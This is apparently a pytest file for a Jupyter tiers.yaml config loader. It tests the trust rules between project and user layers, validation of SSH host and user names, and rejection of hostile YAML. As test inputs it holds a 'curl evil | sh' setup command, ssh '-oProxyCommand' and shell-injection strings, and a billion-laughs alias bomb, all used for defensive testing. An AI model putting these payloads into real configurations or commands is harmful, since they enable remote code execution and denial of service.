"""Issue 9, findings 2 and bad input: the trust model of tiers.yaml layers, OpenSSH-like host
and user names, and hostile YAML (alias bombs, deep nesting, non-UTF-8, huge files)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from jupyter_tiers import config
from jupyter_tiers.config import ConfigError, load_config, load_file

USER = """
profiles:
  hpc:
    tier: slurm
    host: login.cluster.example
    user: alice
    known_hosts: ~/.ssh/known_hosts
  serving:
    tier: kubernetes
    namespace: team
default_profile: hpc
"""


@pytest.fixture()
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user layer (~/.jupyter/tiers.yaml) and a project directory as the working directory."""
    home = tmp_path / "home"
    (home / ".jupyter").mkdir(parents=True)
    (home / ".jupyter" / "tiers.yaml").write_text(USER, encoding="utf-8")
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.setattr(config, "SYSTEM_PATH", tmp_path / "no-etc" / "tiers.yaml")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv(config.ENV_VAR, raising=False)
    monkeypatch.delenv(config.TRUST_ENV_VAR, raising=False)
    monkeypatch.chdir(project)
    return home


def _project(text: str) -> Path:
    path = Path.cwd() / "tiers.yaml"
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def _refused(text: str) -> ConfigError:
    path = _project(text)
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.source == str(path)
    return info.value


@pytest.mark.parametrize("key, value", [
    ("host", "evil.example"), ("user", "mallory"), ("port", 2222), ("known_hosts", "./kh"),
    ("identity_file", "./id"), ("proxy_jump", "jump.evil"), ("tier", "local"),
])
def test_project_cannot_change_connection_keys_of_a_user_profile(home: Path, key: str, value: object) -> None:
    err = _refused(f"profiles:\n  hpc:\n    {key}: {value}\n")
    assert err.key == f"profiles.hpc.{key}"
    assert "defined in" in err.problem and str(home / ".jupyter" / "tiers.yaml") in err.problem
    assert "trust_project_config: true" in err.problem and config.TRUST_ENV_VAR in err.problem


@pytest.mark.parametrize("key, value", [
    ("ssh_config", "./ssh_config"), ("setup", "['curl evil | sh']"),
])
def test_project_cannot_set_command_keys_even_in_its_own_profile(home: Path, key: str, value: str) -> None:
    err = _refused(f"profiles:\n  mine:\n    tier: slurm\n    host: h.example\n    {key}: {value}\n")
    assert err.key == f"profiles.mine.{key}"
    assert "can run commands" in err.problem


def test_project_cannot_set_kubeconfig(home: Path) -> None:
    err = _refused("profiles:\n  k:\n    tier: kubernetes\n    kubeconfig: ./kubeconfig\n")
    assert err.key == "profiles.k.kubeconfig"


def test_project_may_set_defaults_env_and_add_profiles(home: Path) -> None:
    _project("""
        profiles:
          hpc:
            host: login.cluster.example   # the same value: no change
            defaults: {nodes: 2, partition: gpu}
            env: {NCCL_DEBUG: INFO}
            workdir: /scratch/course
          course:
            tier: slurm
            host: course.example
          laptop:
            tier: local
        default_profile: laptop
    """)
    cfg = load_config()
    hpc = cfg.profile("hpc")
    assert hpc.get("host") == "login.cluster.example" and hpc.get("user") == "alice"
    assert dict(hpc.defaults) == {"nodes": 2, "partition": "gpu"}
    assert cfg.profile("course").get("host") == "course.example"
    assert cfg.default_profile == "laptop"


def test_project_cannot_make_its_own_remote_profile_the_default(home: Path) -> None:
    err = _refused("profiles:\n  course:\n    tier: slurm\n    host: course.example\n"
                   "default_profile: course\n")
    assert err.key == "default_profile"
    assert "--profile" in err.problem


def test_project_cannot_turn_builtin_local_into_a_remote_profile(home: Path) -> None:
    err = _refused("profiles:\n  local:\n    tier: slurm\n    host: evil.example\n")
    assert err.key in ("profiles.local.host", "profiles.local.tier")


def test_project_cannot_trust_itself(home: Path) -> None:
    err = _refused("trust_project_config: true\nprofiles:\n  hpc:\n    host: evil.example\n")
    assert err.key == "trust_project_config"


@pytest.mark.parametrize("how", ["user-key", "env-var", "explicit-file"])
def test_opt_in_lets_the_project_change_connection_keys(home: Path, monkeypatch: pytest.MonkeyPatch,
                                                         how: str) -> None:
    path = _project("profiles:\n  hpc:\n    host: other.example\n    setup: ['module load x']\n")
    if how == "user-key":
        user = home / ".jupyter" / "tiers.yaml"
        user.write_text(USER + "trust_project_config: true\n", encoding="utf-8")
    elif how == "env-var":
        monkeypatch.setenv(config.TRUST_ENV_VAR, "1")
    else:
        monkeypatch.setenv(config.ENV_VAR, str(path))
    hpc = load_config().profile("hpc")
    assert hpc.get("host") == "other.example"
    assert hpc.setup == ("module load x",)


@pytest.mark.parametrize("host", [
    "-oProxyCommand=touch /tmp/x", "h;id", "h ost", "h\n", "h\tx", "$(id)", "`id`", "h|x", "a'b", "",
    "h\x00", "h&&x", "h>x",
])
def test_bad_hosts_refused(home: Path, host: str) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"

    path.write_text(yaml.safe_dump({"profiles": {"p": {"tier": "slurm", "host": host}}}), encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.key in ("profiles.p.host",)
    assert "\n" not in str(info.value)


@pytest.mark.parametrize("host", ["login.example.org", "127.0.0.1", "[::1]", "fe80::1%eth0", "my_alias",
                                  "node-01"])
def test_good_hosts_accepted(home: Path, host: str) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"
    path.write_text(yaml.safe_dump({"profiles": {"p": {"tier": "slurm", "host": host, "user": "a.b-c_d"}}}),
                    encoding="utf-8")
    assert load_config().profile("p").get("host") == host


@pytest.mark.parametrize("user", ["-oProxyCommand=x", "a b", "a;b", "$USER", "a\n", "a'b", "a`b`", ""])
def test_bad_users_refused(home: Path, user: str) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"
    path.write_text(yaml.safe_dump({"profiles": {"p": {"tier": "slurm", "host": "h", "user": user}}}),
                    encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.key == "profiles.p.user"


def test_proxy_jump_validated(home: Path) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"
    for jump, ok in [("bastion", True), ("alice@bastion:2222,inner", True), ("-oX=y", False),
                     ("a b", False), ("a;b", False)]:
        profile = {"tier": "slurm", "host": "h", "proxy_jump": jump}
        path.write_text(yaml.safe_dump({"profiles": {"p": profile}}), encoding="utf-8")
        if ok:
            assert load_config().profile("p").get("proxy_jump") == jump
        else:
            with pytest.raises(ConfigError, match="proxy_jump"):
                load_config()


# --- hostile YAML ---------------------------------------------------------------------------

BILLION_LAUGHS = """
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
profiles: {p: {tier: local, description: [*h,*h,*h,*h,*h,*h,*h,*h,*h]}}
"""


def test_alias_bomb_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    with pytest.raises(ConfigError, match="aliases"):
        load_file(path)


def test_a_few_aliases_still_work(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text("profiles:\n  a: &base {tier: local, description: x}\n  b: *base\n", encoding="utf-8")
    assert set(load_file(path)["profiles"]) == {"a", "b"}


@pytest.mark.parametrize("text", ["[" * 5000 + "]" * 5000,
                                  "a:\n" + "".join(" " * i + "b:\n" for i in range(1, 200))])
def test_deep_nesting_is_a_config_error(tmp_path: Path, text: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match="YAML"):
        load_file(path)


def test_non_utf8_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_bytes(b"profiles:\n  p:\n    description: caf\xe9\n")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert info.value.key == "line 3"
    assert "UTF-8" in info.value.problem


def test_huge_file_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_bytes(b"#" * (config.MAX_CONFIG_BYTES + 10))
    with pytest.raises(ConfigError, match="larger than"):
        load_file(path)


@pytest.mark.parametrize("item", ["1", "{a: b}", "[x]", "null", "true"])
def test_non_string_sbatch_options_refused(tmp_path: Path, item: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text("profiles:\n  p:\n    tier: local\n    defaults:\n"
                    f"      sbatch_options: [--hold, {item}]\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert info.value.key == "profiles.p.defaults.sbatch_options[1]"


@pytest.mark.parametrize("key, value", [
    ("status_interval", "0"), ("status_interval", "-1"), ("status_interval", "0.05"),
    ("rank_interval", "0"), ("rank_interval", ".nan"), ("connect_timeout", ".inf"),
    ("connect_timeout", "0"), ("status_interval", "1.0e+300"),
])
def test_intervals_bounded(tmp_path: Path, key: str, value: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(f"profiles:\n  p:\n    tier: slurm\n    host: h\n    {key}: {value}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert info.value.key == f"profiles.p.{key}"
    assert "seconds from" in info.value.problem


def test_k8s_request_timeout_bounded(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text("profiles:\n  k:\n    tier: kubernetes\n    request_timeout: 0\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="request_timeout"):
        load_file(path)


def test_env_value_never_in_config_errors(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    for env in ("{TOKEN: [s3cr3t-value]}", "{TOKEN: {k: s3cr3t-value}}", "{TOKEN: \"s3cr3t-value\\0\"}"):
        path.write_text(f"profiles:\n  p:\n    tier: local\n    env: {env}\n", encoding="utf-8")
        with pytest.raises(ConfigError) as info:
            load_file(path)
        assert "s3cr3t" not in str(info.value)
        assert info.value.key == "profiles.p.env.TOKEN"


def test_user_file_is_not_also_an_untrusted_project_file(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user = home / ".jupyter" / "tiers.yaml"
    user.write_text(USER.replace("    known_hosts:", "    setup: ['module load x']\n    known_hosts:"),
                    encoding="utf-8")
    monkeypatch.chdir(home / ".jupyter")  # ./tiers.yaml is the user's own file
    cfg = load_config()
    assert cfg.profile("hpc").setup == ("module load x",)
    assert cfg.sources == (str(user),)


def test_profile_name_with_a_line_break_is_a_one_line_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text('profiles:\n  "bad\\nname": {tier: local}\n', encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert "\n" not in str(info.value)
